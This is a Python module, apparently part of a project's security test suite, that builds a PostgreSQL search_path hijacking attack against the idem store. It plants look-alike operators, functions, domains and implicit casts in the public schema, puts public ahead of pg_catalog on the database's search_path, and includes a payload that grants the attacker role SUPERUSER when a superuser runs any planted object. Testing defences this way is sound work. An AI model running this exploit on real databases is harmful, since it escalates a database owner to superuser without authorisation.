"""Look-alike objects an attacker plants for the owner's sessions, derived from what idem runs.

A role that owns the database (``CREATE DATABASE app OWNER app_role``) owns ``public`` on
PostgreSQL 15 and may set the database's ``search_path``. What it plants there runs with the
rights of whoever resolves a name to it: the store's owner (often a superuser) in ``idem
migrate``, pg_cron's job, the CLI's admin verbs and a DBA's psql. ``derive`` reads which
operators, functions and types idem's SQL names (every ``idem_*`` routine's body, the
migrations, the function files and the schema tool's own SQL); ``plant`` creates, for each, a
public look-alike that logs and escalates when anyone but the attacker runs it, and puts
``public`` before ``pg_catalog`` on the database's path.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psycopg
from psycopg import sql

ROOT = Path(__file__).resolve().parents[3]

#: Where idem's SQL text is, besides the routines' bodies in the catalog.
SQL_TEXT = (
    *sorted((ROOT / "sql").rglob("*.sql")),
    *sorted((ROOT / "sql" / "migrations").glob("*.py")),
    *sorted((ROOT / "python" / "idem_shim" / "schema" / "sql").glob("*.sql")),
)
#: Types of literals and of the intermediate values of the bodies' expressions (an integer
#: literal, a decimal one, EXTRACT's numeric, count's bigint, a ratio's double precision), beside
#: the types the catalog shows for the routines' arguments, results and the store's columns.
EXPRESSION_TYPES = ("int4", "int8", "numeric", "float8", "text", "bool", "interval", "timestamptz")

_STRING = re.compile(r"'(?:[^']|'')*'")
_COMMENT = re.compile(r"--[^\n]*")
_OPERATOR = re.compile(r"[-+*/<>=~!@#%^&|`?]+")
_CALL = re.compile(r"(?<![.\w\"])([a-z_][a-z0-9_]*)\s*\(", re.I)


@dataclass
class Plan:
    """What to plant: binary operators (name, left, right, result), prefix ones (name, right,
    result), functions (name, argument types, result) and the type names to shadow."""

    operators: list[tuple[str, str, str, str]] = field(default_factory=list)
    prefix: list[tuple[str, str, str]] = field(default_factory=list)
    functions: list[tuple[str, tuple[str, ...], str]] = field(default_factory=list)
    types: list[str] = field(default_factory=list)


def _texts(conn: psycopg.Connection[Any]) -> list[str]:
    bodies = [
        r[0]
        for r in conn.execute(
            "SELECT p.prosrc FROM pg_catalog.pg_proc p WHERE p.proname OPERATOR(pg_catalog.~~) 'idem\\_%'"
        )
    ]
    return [_COMMENT.sub(" ", _STRING.sub(" ", t)) for t in bodies + [p.read_text() for p in SQL_TEXT]]


def derive(conn: psycopg.Connection[Any]) -> Plan:
    """The plan for a migrated store, read on a clean session (``conn`` pins its own path)."""
    conn.execute("SELECT pg_catalog.set_config('search_path', 'pg_catalog, pg_temp', false)")
    texts = _texts(conn)
    words = {w for t in texts for w in _OPERATOR.findall(t)}
    calls = {c.lower() for t in texts for c in _CALL.findall(t)}
    types = [
        str(r[0])
        for r in conn.execute(
            """SELECT DISTINCT t.typname FROM pg_catalog.pg_type t
                WHERE t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace AND t.typtype = 'b'
                  AND t.typcategory OPERATOR(pg_catalog.<>) 'A'
                  AND (t.typname OPERATOR(pg_catalog.=) ANY (%s)
                       OR t.oid IN (SELECT pg_catalog.unnest(p.proargtypes::pg_catalog.oid[]) FROM pg_catalog.pg_proc p
                                     WHERE p.proname OPERATOR(pg_catalog.~~) 'idem\\_%%'
                                    UNION SELECT p.prorettype FROM pg_catalog.pg_proc p
                                     WHERE p.proname OPERATOR(pg_catalog.~~) 'idem\\_%%'
                                    UNION SELECT a.atttypid FROM pg_catalog.pg_attribute a
                                     WHERE a.attnum OPERATOR(pg_catalog.>) 0
                                       AND a.attrelid IN ('public.idempotency_keys'::pg_catalog.regclass,
                                                          'public.idempotency_events'::pg_catalog.regclass,
                                                          'public.idem_secret'::pg_catalog.regclass)))
                ORDER BY 1""",
            (list(EXPRESSION_TYPES),),
        )
    ]
    plan = Plan(types=types)
    names = [
        str(r[0])
        for r in conn.execute(
            "SELECT DISTINCT o.oprname FROM pg_catalog.pg_operator o WHERE o.oprname OPERATOR(pg_catalog.=) ANY (%s)"
            " ORDER BY 1",
            (sorted(words),),
        )
    ]
    for name in names:
        for left in [None, *types]:
            for right in types:
                # What the body's expression resolves to with a clean path: a look-alike with
                # that exact signature, or a better match than pg_catalog's, would win.
                probe = sql.SQL("SELECT pg_catalog.format_type(pg_catalog.pg_typeof({} {} {})::pg_catalog.oid, NULL)")
                left_sql = sql.SQL("") if left is None else sql.SQL("NULL::pg_catalog.{}").format(sql.Identifier(left))
                query = probe.format(
                    left_sql, sql.SQL(name), sql.SQL("NULL::pg_catalog.{}").format(sql.Identifier(right))
                )
                try:
                    with conn.transaction():
                        row = conn.execute(query).fetchone()
                except psycopg.Error:
                    continue
                assert row is not None
                if left is None:
                    plan.prefix.append((name, right, str(row[0])))
                else:
                    plan.operators.append((name, left, right, str(row[0])))
    for name, args, result, volatility in conn.execute(
        """SELECT p.proname, pg_catalog.array_agg(pg_catalog.format_type(a.t, NULL) ORDER BY a.n),
                  pg_catalog.format_type(p.prorettype, NULL),
                  CASE p.provolatile WHEN 'i' THEN 'IMMUTABLE' WHEN 's' THEN 'STABLE' ELSE 'VOLATILE' END
             FROM pg_catalog.pg_proc p
             LEFT JOIN LATERAL pg_catalog.unnest(p.proargtypes::pg_catalog.oid[]) WITH ORDINALITY a(t, n) ON true
            WHERE p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace AND p.prokind OPERATOR(pg_catalog.=) 'f'
              AND NOT p.proretset AND p.proname OPERATOR(pg_catalog.=) ANY (%s)
            GROUP BY p.oid, p.proname, p.prorettype, p.provolatile
           HAVING pg_catalog.bool_and(a.t IS NULL OR a.t IN (
                      SELECT t.oid FROM pg_catalog.pg_type t
                       WHERE t.typname OPERATOR(pg_catalog.=) ANY (%s)
                         AND t.typnamespace = 'pg_catalog'::pg_catalog.regnamespace))
              AND pg_catalog.format_type(p.prorettype, NULL)
                  OPERATOR(pg_catalog.<>) ALL (ARRAY['void', 'record', 'trigger'])""",
        (sorted(calls), types),
    ):
        plan.functions.append((str(name), tuple(a for a in args if a is not None), f"{result} {volatility}"))
    return plan


PWN = """
CREATE FUNCTION public.pwn(p_what pg_catalog.text) RETURNS pg_catalog.bool
LANGUAGE plpgsql VOLATILE SET search_path = pg_catalog, pg_temp AS $pwn$
DECLARE
    v_context pg_catalog.text;
BEGIN
    IF current_user OPERATOR(pg_catalog.<>) {attacker} THEN
        GET DIAGNOSTICS v_context = PG_CONTEXT;
        INSERT INTO public.pwn_log (who, what, context) VALUES (current_user, p_what, v_context);
        RAISE WARNING 'PWNED: % ran as %', p_what, current_user;
        IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
            EXECUTE {escalate};
        END IF;
    END IF;
    RETURN true;
END
$pwn$"""


def plant(conn: psycopg.Connection[Any], attacker: str, plan: Plan) -> int:
    """Create the plan's look-alikes in ``public`` as ``attacker`` (the database's owner) and put
    ``public`` first on the database's path; returns how many objects were planted."""
    conn.execute("SELECT pg_catalog.set_config('search_path', 'pg_catalog, pg_temp', false)")
    conn.execute(
        "CREATE TABLE public.pwn_log (at pg_catalog.timestamptz DEFAULT pg_catalog.clock_timestamp(),"
        " who pg_catalog.text, what pg_catalog.text, context pg_catalog.text)"
    )
    conn.execute("GRANT INSERT, SELECT ON public.pwn_log TO PUBLIC")
    conn.execute(
        sql.SQL(PWN).format(
            attacker=sql.Literal(attacker),
            escalate=sql.Literal(f"ALTER ROLE {sql.Identifier(attacker).as_string(conn)} SUPERUSER"),
        )
    )
    planted = 0
    for n, (name, left, right, result) in enumerate(plan.operators):
        fn = sql.Identifier(f"pwn_op_{n}")
        conn.execute(
            sql.SQL(
                "CREATE FUNCTION public.{fn}(pg_catalog.{l}, pg_catalog.{r}) RETURNS {res} LANGUAGE plpgsql"
                " IMMUTABLE SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn({what});"
                " RETURN ($1 OPERATOR(pg_catalog.{op}) $2)::{res}; END $f$"
            ).format(
                fn=fn,
                l=sql.Identifier(left),
                r=sql.Identifier(right),
                res=sql.SQL(result),
                op=sql.SQL(name),
                what=sql.Literal(f"operator public.{name}({left}, {right})"),
            )
        )
        conn.execute(
            sql.SQL(
                "CREATE OPERATOR public.{op} (LEFTARG = pg_catalog.{l}, RIGHTARG = pg_catalog.{r},"
                " FUNCTION = public.{fn})"
            ).format(op=sql.SQL(name), l=sql.Identifier(left), r=sql.Identifier(right), fn=fn)
        )
        planted += 1
    for n, (name, right, result) in enumerate(plan.prefix):
        fn = sql.Identifier(f"pwn_prefix_{n}")
        conn.execute(
            sql.SQL(
                "CREATE FUNCTION public.{fn}(pg_catalog.{r}) RETURNS {res} LANGUAGE plpgsql"
                " IMMUTABLE SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn({what});"
                " RETURN (OPERATOR(pg_catalog.{op}) $1)::{res}; END $f$"
            ).format(
                fn=fn,
                r=sql.Identifier(right),
                res=sql.SQL(result),
                op=sql.SQL(name),
                what=sql.Literal(f"prefix operator public.{name}({right})"),
            )
        )
        conn.execute(
            sql.SQL("CREATE OPERATOR public.{op} (RIGHTARG = pg_catalog.{r}, FUNCTION = public.{fn})").format(
                op=sql.SQL(name), r=sql.Identifier(right), fn=fn
            )
        )
        planted += 1
    for name, args, result in plan.functions:
        params = sql.SQL(", ").join(sql.SQL(a) for a in args)
        passed = sql.SQL(", ").join(sql.SQL(f"${i + 1}") for i in range(len(args)))
        with conn.transaction():
            try:
                conn.execute(
                    sql.SQL(
                        "CREATE FUNCTION public.{name}({params}) RETURNS {res} LANGUAGE plpgsql"
                        " SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn({what});"
                        " RETURN pg_catalog.{name}({passed}); END $f$"
                    ).format(
                        name=sql.Identifier(name),
                        params=params,
                        res=sql.SQL(result),
                        passed=passed,
                        what=sql.Literal(f"function public.{name}({', '.join(args)})"),
                    )
                )
                planted += 1
            except psycopg.errors.DuplicateFunction:
                pass  # two pg_catalog signatures that look the same from here (e.g. char vs text)
    for name in plan.types:
        conn.execute(
            sql.SQL("CREATE DOMAIN public.{} AS pg_catalog.{} CHECK (public.pwn({}))").format(
                sql.Identifier(name), sql.Identifier(name), sql.Literal(f"domain public.{name}")
            )
        )
        planted += 1
    # A cast from each of those types to one of the attacker's own (the only casts a role that
    # owns neither built-in type may create), implicit, so it joins every resolution.
    conn.execute("CREATE TYPE public.pwn_kind AS ENUM ('pwned')")
    for name in plan.types:
        fn = sql.Identifier(f"pwn_cast_{name}")
        conn.execute(
            sql.SQL(
                "CREATE FUNCTION public.{fn}(pg_catalog.{t}) RETURNS public.pwn_kind LANGUAGE plpgsql"
                " SET search_path = pg_catalog, pg_temp AS $f$ BEGIN PERFORM public.pwn({what});"
                " RETURN 'pwned'; END $f$"
            ).format(fn=fn, t=sql.Identifier(name), what=sql.Literal(f"cast {name} -> pwn_kind"))
        )
        conn.execute(
            sql.SQL(
                "CREATE CAST (pg_catalog.{} AS public.pwn_kind) WITH FUNCTION public.{}(pg_catalog.{}) AS IMPLICIT"
            ).format(sql.Identifier(name), fn, sql.Identifier(name))
        )
        planted += 1
    dbname = conn.execute("SELECT pg_catalog.current_database()").fetchone()
    assert dbname is not None
    # The database's owner may set its sessions' default path: public before pg_catalog.
    conn.execute(
        sql.SQL("ALTER DATABASE {} SET search_path = public, pg_catalog").format(sql.Identifier(str(dbname[0])))
    )
    return planted


def ran(conn: psycopg.Connection[Any]) -> list[tuple[Any, ...]]:
    """What of the plants ran, as whom, from where (read with a pinned path)."""
    conn.execute("SELECT pg_catalog.set_config('search_path', 'pg_catalog, pg_temp', false)")
    return conn.execute("SELECT who, what, context FROM public.pwn_log ORDER BY at").fetchall()
